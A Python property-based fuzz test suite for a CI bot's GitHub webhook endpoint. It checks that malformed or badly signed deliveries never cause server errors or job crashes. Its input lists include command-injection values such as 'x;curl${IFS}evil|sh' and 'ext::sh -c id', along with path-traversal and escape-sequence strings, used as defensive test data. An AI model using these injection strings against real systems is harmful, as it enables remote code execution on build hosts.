"""Property-based fuzzing of ``POST /webhooks/github``: whatever the body, headers and
signature, the answer is never a 500, and the queue job never raises or logs a
traceback for what was accepted.

Bodies are signed with the right secret (so they get past the signature and reach
the parser, the router and the job), wrongly signed, or unsigned; payloads are
shaped like GitHub's (the fields ci-bot reads), with every value sometimes replaced
by something GitHub never sends: lone surrogates, controls, a wrong type, a huge
string.  Git is never run: the job's mirrors refuse to fetch, as an unreachable
host would.  Example counts are kept modest (deadline none) so the suite stays fast
on a loaded machine.
"""

from __future__ import annotations

import itertools
import json
import logging
import os
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from ci_bot.git import GitError, Mirrors
from ci_bot.github.bot import GitHubBot
from ci_bot.github.dispatch import JOB, handle_delivery
from ci_bot.github.events import EVENTS, IGNORED_EVENTS
from tests.github.support import sign
from tests.hardening.support import SHA, WebhookBot, push_payload, webhook_bot

SIGNED_EXAMPLES = 300
UNSIGNED_EXAMPLES = 200
ANSWERS = {200, 202, 400, 401, 413}
DELIVERY_IDS = itertools.count(1)
FUZZ = settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


class UnreachableMirrors(Mirrors):
    """Mirrors that refuse every fetch, as an unreachable host would: no git runs.  The
    arguments are first encoded as ``subprocess`` must to hand them to git, so a value
    git could never be given fails here as it would for real."""

    def fetch(self, repo: str, url: str, refs: Sequence[str] = ()) -> Path:
        for argument in (repo, url, *refs):
            os.fsencode(argument)
        raise GitError(f"could not fetch {repo}: the fuzz test has no network")


@pytest.fixture
def bot(tmp_path: Path) -> Iterator[WebhookBot]:
    made = webhook_bot(tmp_path / "data")
    services = made.services
    quiet = GitHubBot(services, None, UnreachableMirrors(tmp_path / "mirrors"), lambda t: t)
    services.queue.register(JOB, lambda job: handle_delivery(quiet, str(job["delivery"])))
    yield made
    made.close()


# --- values: plausible ones and what GitHub never sends -----------------------------------

ANY_CHAR = st.characters(exclude_categories=[])  # surrogates and controls included
WEIRD_TEXT = st.one_of(
    st.text(ANY_CHAR, max_size=40),
    st.just("\ud800"),
    st.just("\x1b]0;pwned\x07"),
    st.just("a" * 5000),
    st.sampled_from(["", "..", "-rf", "refs/heads/", "/", "@", "x.lock", "../x", "acme"]),
    st.sampled_from(["file:///etc", "ssh://git@github.com/a/b", "ext::sh -c id", "-x"]),
)
JUNK = st.one_of(
    WEIRD_TEXT,
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
)


def maybe(good: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """A value GitHub would send three times in four, else junk.  (Not ``one_of(good,
    good, …)``: hypothesis merges equal branches, and flattens JUNK's seven into it.)"""
    return st.sampled_from([True, True, True, False]).flatmap(lambda ok: good if ok else JUNK)


REFS = st.sampled_from(["main", "feature/x", "release-1.2", "x;curl${IFS}evil|sh", "é"])
SHAS = st.sampled_from([SHA, "0" * 40, "f" * 64])
URLS = st.sampled_from(
    [
        "https://github.com/acme/app.git",
        "http://github.com/acme/app.git",
        "https://github.example/acme/app.git",
    ]
)
NAMES = st.sampled_from(["acme/app", "acme/app.js", "octo-cat/hello_world"])


@st.composite
def payload(draw: st.DrawFn) -> dict[str, Any]:
    """One dict holding what each event's route reads, in GitHub's shapes: half the time
    every value is one GitHub could send (so the job runs), else some are junk."""
    clean = draw(st.booleans())

    def value(good: st.SearchStrategy[Any]) -> Any:
        return draw(good if clean else maybe(good))

    repo = {
        "full_name": value(NAMES),
        "clone_url": value(URLS),
        "default_branch": value(REFS),
    }
    actions = st.sampled_from(["opened", "synchronize", "closed", "created", "rerequested"])
    body = {
        "action": value(actions),
        "ref": value(REFS.map(lambda r: f"refs/heads/{r}") | REFS.map(lambda r: f"refs/tags/{r}")),
        "ref_type": value(st.sampled_from(["branch", "tag", "repository"])),
        "after": value(SHAS),
        "created": value(st.booleans()),
        "deleted": value(st.booleans()),
        "repository": repo,
        "installation": {"id": value(st.integers(1, 10**6))},
        "pusher": {"name": value(st.text(max_size=10))},
        "sender": {"login": value(st.text(max_size=10))},
        "pull_request": {
            "number": value(st.integers(1, 10**6)),
            "draft": value(st.booleans()),
            "user": {"login": value(st.text(max_size=10))},
            "head": {"sha": value(SHAS), "ref": value(REFS), "repo": repo},
            "base": {"ref": value(REFS), "repo": repo},
        },
        "issue": {"number": value(st.integers(1, 100)), "pull_request": {}},
        "comment": {
            "id": value(st.integers(1, 10**6)),
            "body": value(st.sampled_from(["/rerun", "/rerun all", "/ok-to-test", "hi"])),
            "user": {"login": value(st.text(max_size=10)), "type": "User"},
        },
        "check_run": {
            "id": value(st.integers(1, 10**6)),
            "head_sha": value(SHAS),
            "external_id": value(st.text(max_size=10)),
        },
        "requested_action": {"identifier": value(st.just("rerun-failed"))},
        "check_suite": {"head_sha": value(SHAS)},
    }
    dropped = draw(st.sets(st.sampled_from(sorted(body)), max_size=0 if clean else 3))
    return {key: item for key, item in body.items() if key not in dropped}


# what an HTTP header can carry (a client cannot send a line end or NUL in one)
HEADER_TEXT = st.text(st.characters(max_codepoint=255, exclude_characters="\r\n\x00"), max_size=80)
KNOWN_EVENTS = st.sampled_from(sorted(EVENTS | IGNORED_EVENTS))
EVENT_NAMES = st.one_of(KNOWN_EVENTS, KNOWN_EVENTS, KNOWN_EVENTS, HEADER_TEXT.map(lambda t: t[:20]))


def encode(data: Any, form: bool) -> tuple[bytes, str]:
    text = json.dumps(data)
    if form:
        return urlencode({"payload": text}).encode(), "application/x-www-form-urlencoded"
    return text.encode(), "application/json"


def deliver(
    bot: WebhookBot, body: bytes, content_type: str, headers: dict[str, str]
) -> tuple[int, str]:
    response = bot.client.post(
        "/webhooks/github", data=body, headers=headers, content_type=content_type
    )
    return response.status_code, response.get_data(as_text=True)


def jobs_ran_cleanly(bot: WebhookBot, caplog: pytest.LogCaptureFixture) -> None:
    """Run what was queued; no job may raise, log a traceback, or fail as a bug."""
    bot.services.queue.run_pending()
    tracebacks = [r for r in caplog.records if r.exc_info or r.levelno >= logging.ERROR]
    assert not tracebacks, [r.getMessage() for r in tracebacks]
    for status in ("failed", "handled", "deferred"):
        for delivery in bot.services.store.deliveries_with_status(status):
            assert "internal error" not in delivery.outcome, delivery.outcome


@settings(FUZZ, max_examples=SIGNED_EXAMPLES)
@given(event=st.sampled_from(sorted(EVENTS)), data=payload(), form=st.booleans())
# the reported crashes, always tried: a lone surrogate and a megabyte in the clone URL
@example(event="push", data=push_payload("https://github.com/acme/\ud800.git"), form=False)
@example(event="push", data=push_payload("https://github.com/" + "a" * 2**20), form=True)
def test_signed_deliveries_never_get_a_500_nor_crash_the_job(
    bot: WebhookBot,
    caplog: pytest.LogCaptureFixture,
    event: str,
    data: dict[str, Any],
    form: bool,
) -> None:
    caplog.clear()
    body, content_type = encode(data, form)
    headers = {
        "X-GitHub-Event": event,
        "X-GitHub-Delivery": f"fuzz-{next(DELIVERY_IDS)}",  # each one new: each one a job
        "X-Hub-Signature-256": sign(body),
    }
    status, text = deliver(bot, body, content_type, headers)
    assert status in ANSWERS, text
    assert status != 401  # signed: the signature is never what refuses it
    jobs_ran_cleanly(bot, caplog)


@settings(FUZZ, max_examples=UNSIGNED_EXAMPLES)
@given(
    body=st.one_of(st.binary(max_size=2000), payload().map(lambda d: json.dumps(d).encode())),
    content_type=st.one_of(
        st.sampled_from(["application/json", "application/x-www-form-urlencoded", ""]),
        HEADER_TEXT,
    ),
    event=EVENT_NAMES,
    delivery=HEADER_TEXT,
    signature=st.one_of(st.none(), HEADER_TEXT, st.just("sha256=" + "0" * 64)),
    right_signature=st.booleans(),
)
def test_any_body_headers_and_signature_never_get_a_500(
    bot: WebhookBot,
    caplog: pytest.LogCaptureFixture,
    body: bytes,
    content_type: str,
    event: str,
    delivery: str,
    signature: str | None,
    right_signature: bool,
) -> None:
    caplog.clear()
    headers = {"X-GitHub-Event": event, "X-GitHub-Delivery": delivery}
    if right_signature:
        headers["X-Hub-Signature-256"] = sign(body)
    elif signature is not None:
        headers["X-Hub-Signature-256"] = signature
    status, text = deliver(bot, body, content_type, headers)
    assert status in ANSWERS, text
    if not right_signature:
        assert status in (401, 413)  # an unsigned body is refused before it is parsed
    jobs_ran_cleanly(bot, caplog)
